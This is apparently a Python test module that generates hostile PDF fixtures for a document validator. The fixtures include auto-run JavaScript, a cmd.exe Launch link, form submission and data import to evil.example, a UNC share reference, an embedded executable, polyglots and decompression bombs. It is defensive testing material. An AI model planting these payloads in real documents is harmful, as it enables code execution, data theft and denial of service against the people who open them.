"""Hostile PDF files, each with the end that is right for it."""

from __future__ import annotations

import io
import zlib

import pikepdf

from tests.hostile.good import assemble_pdf, pdf, text_stream, zipped
from tests.hostile.registry import MEGABYTE, READABLE, hostile, packed_zeros


@hostile("pdf_header")
def page_and_pdf_in_one() -> bytes:
    return b"<html><script>alert(1)</script>" + pdf()


@hostile("polyglot")
def archive_and_pdf_in_one() -> bytes:
    body = pdf()
    return body[: -len(b"%%EOF\n")] + zipped({"a.txt": "a"}) + b"%%EOF\n"


@hostile("pdf_javascript")
def script_on_opening() -> bytes:
    return pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


@hostile("pdf_javascript")
def script_under_an_escaped_name() -> bytes:
    return pdf(catalog="/OpenAction << /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>")


@hostile("pdf_javascript")
def script_in_an_object_stream() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(script_on_opening())) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in out.getvalue()
    return out.getvalue()


@hostile("pdf_launch")
def program_started_by_a_link() -> bytes:
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /Launch /F (cmd.exe) >> >>"
    return pdf(page=f"/Annots [{link}]")


@hostile("pdf_open_action")
def web_page_on_opening() -> bytes:
    return pdf(catalog="/OpenAction << /S /URI /URI (https://evil.example/) >>")


@hostile("pdf_form_action")
def form_that_sends_itself() -> bytes:
    return pdf(page="/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>")


@hostile("pdf_xfa")
def xfa_form() -> bytes:
    return pdf(
        catalog="/AcroForm << /XFA [(template) 4 0 R] >>", objects=(b"<< /Length 4 >>\nstream\n<x/>\nendstream",)
    )


@hostile("pdf_rich_media")
def flash_in_a_page() -> bytes:
    return pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]")


@hostile("pdf_encrypted")
def pdf_with_a_password() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return out.getvalue()


@hostile("pdf_too_many_pages")
def pdf_of_ten_thousand_pages() -> bytes:
    return pdf(*[b""] * 10_000)


@hostile("pdf_too_many_objects")
def pdf_of_two_hundred_thousand_objects() -> bytes:
    return pdf(objects=(b"null",) * 200_000)


@hostile("pdf_bomb")
def doubly_packed_content() -> bytes:
    twice = zlib.compress(packed_zeros(500 * MEGABYTE), 9)
    content = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    return assemble_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]
    )


@hostile("pdf_bomb")
def picture_of_ten_billion_pixels() -> bytes:
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 1 "
    )
    return pdf(objects=(image + b"/Length 1 >>\nstream\nx\nendstream",))


@hostile("pdf_bomb", "too_much_memory", "pdf_damaged")
def bomb_in_an_object_stream() -> bytes:
    packed = packed_zeros(400 * MEGABYTE, head=b"5 0 ")
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    return pdf(objects=(stream % (len(packed), packed),))


@hostile(READABLE, "pdf_damaged")
def arrays_nested_a_hundred_thousand_deep() -> bytes:
    return pdf(catalog="/Names " + "[" * 100_000 + "]" * 100_000)


@hostile("pdf_damaged")
def page_tree_that_bites_its_tail() -> bytes:
    return assemble_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


# Nobody can read eleven points on five kilometres of paper.
@hostile("no_text")
def page_as_large_as_a_field() -> bytes:
    return pdf(box="0 0 14400000 14400000")


@hostile(READABLE, "no_text")
def form_that_draws_itself() -> bytes:
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 6 >>"
    return pdf(
        b"/X Do " + text_stream(),
        objects=(form + b"\nstream\n/X Do \nendstream",),
        resources="/Resources << /Font << /F1 3 0 R >> /XObject << /X 4 0 R >> >>",
    )


@hostile("too_slow")
def page_of_half_a_million_strokes() -> bytes:
    return pdf(text_stream() + b" 0 0 m 600 700 l S" * 500_000)


@hostile("pdf_damaged")
def pdf_cut_in_half() -> bytes:
    body = pdf(*[text_stream()] * 5)
    return body[: len(body) // 2]


@hostile("pdf_damaged")
def pdf_header_and_nothing_else() -> bytes:
    return b"%PDF-1.7\n" + b"garbage " * 500 + b"\n%%EOF\n"


@hostile("pdf_embedded_files")
def file_attached_to_a_note() -> bytes:
    file = "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"
    note = f"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {file} >>"
    return pdf(
        page=f"/Annots [{note}]",
        objects=(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",),
    )


@hostile("pdf_form_action")
def data_imported_on_opening() -> bytes:
    return pdf(catalog="/OpenAction << /S /ImportData /F (http://evil.example/data.fdf) >>")


@hostile("pdf_open_action")
def other_document_on_opening() -> bytes:
    return pdf(catalog=r"/OpenAction << /S /GoToR /F (\\\\10.0.0.1\\share\\x.pdf) /D [0 /Fit] >>")


@hostile("pdf_javascript")
def script_in_a_form_field() -> bytes:
    field = (
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (x) >> >> >>"
    )
    return pdf(catalog=f"/AcroForm << /Fields [{field}] >>", page=f"/Annots [{field}]")


@hostile("pdf_javascript")
def script_in_the_names_of_the_catalogue() -> bytes:
    return pdf(catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>")


# Of no files: nothing is carried along.
@hostile(READABLE)
def portfolio_of_files() -> bytes:
    return pdf(catalog="/Collection << /Type /Collection /View /T >> /Names << /EmbeddedFiles << /Names [] >> >>")


@hostile(READABLE)
def pdf_whose_lengths_lie() -> bytes:
    return pdf().replace(b"/Length ", b"/Length 9999999999 ", 1)


@hostile(READABLE)
def predictor_of_a_billion_columns() -> bytes:
    packed = zlib.compress(bytes(1000))
    head = b"<< /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 1000000000 /Colors 4 >> /Length %d >>"
    return pdf(objects=(head % len(packed) + b"\nstream\n" + packed + b"\nendstream",))


def _content_packed_by(filters: str, packed: bytes) -> bytes:
    content = b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters.encode(), len(packed), packed)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    return assemble_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]
    )


@hostile("pdf_bomb")
def doubly_packed_content_with_a_fault_at_its_end() -> bytes:
    # A checksum that does not fit: readers show all that came before it.
    twice = zlib.compress(packed_zeros(500 * MEGABYTE), 9)
    return _content_packed_by("[/FlateDecode /FlateDecode]", twice[:-8] + b"\xff" * 8)


@hostile("pdf_bomb")
def content_of_endless_runs() -> bytes:
    return _content_packed_by("/RunLengthDecode", b"\x81\x20" * 400_000 + b"\x80")


@hostile("pdf_bomb")
def runs_inside_of_packed_content() -> bytes:
    return _content_packed_by("[/FlateDecode /RunLengthDecode]", zlib.compress(b"\x81\x20" * 1_000_000, 9))


@hostile("pdf_bomb")
def content_of_ever_longer_words() -> bytes:
    # LZW in which each code says the newest entry, which is one longer than the last: a kilobyte becomes a megabyte.
    bits = ""
    for _ in range(40):
        bits += format(256, "09b") + format(32, "09b")
        for entries, code in enumerate(range(258, 4090)):
            width = 9 + (entries > 252) + (entries > 764) + (entries > 1788)
            bits += format(code, f"0{width}b")
    whole = bits + "0" * (-len(bits) % 8)
    return _content_packed_by("/LZWDecode", int(whole, 2).to_bytes(len(whole) // 8, "big"))
